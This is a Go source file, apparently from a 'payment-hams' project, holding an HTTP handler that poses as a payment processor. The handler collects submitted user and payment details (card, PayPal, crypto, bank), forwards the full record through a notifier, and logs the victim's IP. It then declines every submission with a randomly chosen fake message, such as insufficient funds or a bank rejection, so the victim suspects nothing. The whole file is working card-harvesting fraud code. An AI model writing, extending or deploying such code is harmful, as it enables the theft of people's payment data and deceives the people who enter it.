package handlers

import (
	"fmt"
	"math/rand"
	"net/http"
	"sync"
	"time"

	"github.com/gin-gonic/gin"

	"github.com/MGIFOGOIOGPY/payment-hams/logging"
	"github.com/MGIFOGOIOGPY/payment-hams/models"
	"github.com/MGIFOGOIOGPY/payment-hams/notify"
	"github.com/MGIFOGOIOGPY/payment-hams/sanitize"
)

const transactionPrefix = "TXN"

// NotifySender delivers a composed message, reporting success as a bool.
type NotifySender interface {
	Send(text string) bool
}

// EventPublisher fans a redacted intake event out to the audit queue.
type EventPublisher interface {
	PublishEvent(event models.IntakeEvent) error
}

// declineMessages is the fixed candidate pool per payment method. One is
// picked uniformly at random per response.
var declineMessages = map[models.PaymentMethod][]string{
	models.MethodCard: {
		"Your card was declined. Please check your card details or use a different payment method.",
		"We couldn't process your payment. Your bank may be rejecting the transaction.",
		"Card authorization failed. Please contact your bank for more information.",
		"Insufficient funds. Please use a different payment method.",
	},
	models.MethodPaypal: {
		"PayPal service is temporarily unavailable. Please try again later.",
		"We couldn't connect to PayPal. Please check your credentials.",
		"PayPal authentication failed. Please try another payment method.",
		"Your PayPal account is restricted from making this payment.",
	},
	models.MethodCrypto: {
		"Cryptocurrency payments are currently unavailable. Please try another method.",
		"The selected cryptocurrency is not supported at this time.",
		"Network congestion is delaying crypto transactions. Please try later.",
		"Invalid wallet address. Please verify and try again.",
	},
	models.MethodBank: {
		"Bank transfers are temporarily disabled. Please check back later.",
		"Our bank is currently processing other transactions. Please try again.",
		"International transfers are experiencing delays. Please use another method.",
		"Invalid bank details provided. Please verify your information.",
	},
}

const defaultDeclineMessage = "Payment processing failed. Please try again later."

type IntakeHandler struct {
	notifier     NotifySender
	publisher    EventPublisher // nil when fan-out is not configured
	audit        *logging.AuditLogger
	supportEmail string

	mu  sync.Mutex
	rng *rand.Rand
	now func() time.Time
}

func NewIntakeHandler(notifier NotifySender, publisher EventPublisher, audit *logging.AuditLogger, supportEmail string) *IntakeHandler {
	return &IntakeHandler{
		notifier:     notifier,
		publisher:    publisher,
		audit:        audit,
		supportEmail: supportEmail,
		rng:          rand.New(rand.NewSource(time.Now().UnixNano())),
		now:          time.Now,
	}
}

// ProcessPayment handles POST /api/process_payment. Every well-formed
// submission is declined; delivery and fan-out failures never fail the
// request.
func (h *IntakeHandler) ProcessPayment(c *gin.Context) {
	body, err := decodeBody(c)
	if err != nil {
		h.respondInvalid(c, err)
		return
	}
	if err := validateLimits(body); err != nil {
		h.respondInvalid(c, err)
		return
	}

	body = sanitize.Sanitize(body)

	now := h.now()
	record := &models.IntakeRecord{
		Amount:         amountDisplay(body),
		Method:         models.NormalizeMethod(field(body, "paymentMethod", "payment_method").Display()),
		UserInfo:       field(body, "userInfo", "user_info"),
		PaymentDetails: field(body, "paymentDetails", "payment_details"),
		SourceIP:       c.ClientIP(),
		Verb:           c.Request.Method,
		Timestamp:      now,
	}

	message, err := notify.Compose(record)
	if err != nil {
		// Oversized composition means oversized input.
		h.respondInvalid(c, err)
		return
	}

	delivered := h.notifier.Send(message.Text())
	transactionID := h.newTransactionID(now)
	redacted := sanitize.Redact(body)

	if !delivered {
		h.audit.Warn("notification delivery failed", logging.Entry{
			RequestID:     requestID(c),
			TransactionID: transactionID,
			Method:        string(record.Method),
			SourceIP:      record.SourceIP,
		})
	}

	if h.publisher != nil {
		event := models.IntakeEvent{
			TransactionID: transactionID,
			Method:        record.Method,
			Amount:        record.Amount,
			SourceIP:      record.SourceIP,
			Timestamp:     now.Format(models.TimeLayout),
			Delivered:     delivered,
			Record:        redacted,
		}
		if err := h.publisher.PublishEvent(event); err != nil {
			h.audit.Warn("intake event publish failed", logging.Entry{
				RequestID:     requestID(c),
				TransactionID: transactionID,
				Fields:        map[string]interface{}{"error": err.Error()},
			})
		}
	}

	h.audit.Info("payment intake recorded", logging.Entry{
		RequestID:     requestID(c),
		TransactionID: transactionID,
		Method:        string(record.Method),
		SourceIP:      record.SourceIP,
		Delivered:     &delivered,
		Record:        &redacted,
	})

	c.JSON(http.StatusBadRequest, models.DeclineResponse{
		Success:       false,
		Message:       h.declineMessage(record.Method),
		ErrorCode:     models.CodePaymentDeclined,
		TransactionID: transactionID,
		SupportEmail:  h.supportEmail,
		Timestamp:     now.Format(models.TimeLayout),
	})
}

func (h *IntakeHandler) respondInvalid(c *gin.Context, err error) {
	h.audit.Warn("rejected intake request", logging.Entry{
		RequestID: requestID(c),
		SourceIP:  c.ClientIP(),
		ErrorCode: string(models.CodeInvalidRequest),
		Fields:    map[string]interface{}{"error": err.Error()},
	})
	c.JSON(http.StatusBadRequest, models.DeclineResponse{
		Success:   false,
		Message:   "Invalid payment request. Please check your submission and try again.",
		ErrorCode: models.CodeInvalidRequest,
	})
}

// newTransactionID builds prefix + second-precision timestamp + 4-digit
// random suffix.
func (h *IntakeHandler) newTransactionID(now time.Time) string {
	h.mu.Lock()
	suffix := 1000 + h.rng.Intn(9000)
	h.mu.Unlock()
	return fmt.Sprintf("%s%s%04d", transactionPrefix, now.Format("20060102150405"), suffix)
}

func (h *IntakeHandler) declineMessage(method models.PaymentMethod) string {
	pool, ok := declineMessages[method]
	if !ok || len(pool) == 0 {
		return defaultDeclineMessage
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	return pool[h.rng.Intn(len(pool))]
}

// amountDisplay echoes the amount field as-is; it is never parsed as
// currency. A missing amount renders as 0, matching the legacy behavior.
func amountDisplay(body models.Value) string {
	if s := field(body, "amount").Display(); s != "" {
		return s
	}
	return "0"
}
